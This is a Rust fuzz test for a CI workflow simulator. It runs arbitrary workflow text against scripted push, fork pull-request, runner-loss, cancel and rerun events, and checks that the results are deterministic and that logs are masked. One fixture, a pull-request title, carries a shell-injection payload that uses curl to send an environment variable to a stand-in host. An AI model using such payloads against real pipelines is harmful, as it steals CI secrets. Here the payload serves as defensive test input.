//! Any text runs as a workflow to an end, the same every time.

#![no_main]

use libfuzzer_sys::fuzz_target;
use odp_sim::workflow::read;
use odp_sim::workflow::run::{Commit, Event, Happening, Kind, Plan, Settings, What, log};

fn happenings() -> Vec<Happening> {
    let push = Kind::Push {
        branch: "main".to_owned(),
    };
    let request = Kind::PullRequest {
        base: "main".to_owned(),
        head: "topic".to_owned(),
        fork: true,
        action: "opened".to_owned(),
        title: "x\"; curl https://a.example?k=$A #".to_owned(),
    };
    let what = [
        What::Event(Event::new(push, Commit::default())),
        What::Event(Event::new(request, Commit::default())),
        What::LoseRunner(0, "a".to_owned()),
        What::Cancel(1),
        What::RerunFailed(0),
    ];
    let apart = (0..).step_by(7_000);
    let happen = |(at_ms, what)| Happening { at_ms, what };
    apart.zip(what).map(happen).collect()
}

fuzz_target!(|text: &str| {
    let (workflow, _) = read(text);
    let plan = Plan::new(&workflow);
    let settings = Settings {
        runners: 2,
        ..Settings::default()
    };
    let happenings = happenings();
    let outcome = plan.run(&settings, &happenings);
    assert_eq!(outcome, plan.run(&settings, &happenings));
    for job in outcome.runs.iter().flat_map(|run| &run.jobs) {
        assert!(job.start_ms <= job.end_ms && job.end_ms <= outcome.end_ms);
        let _ = log::lines(&plan, job, &log::masked(&settings));
    }
    let _ = (outcome.minutes(), outcome.live_at(u64::MAX));
});
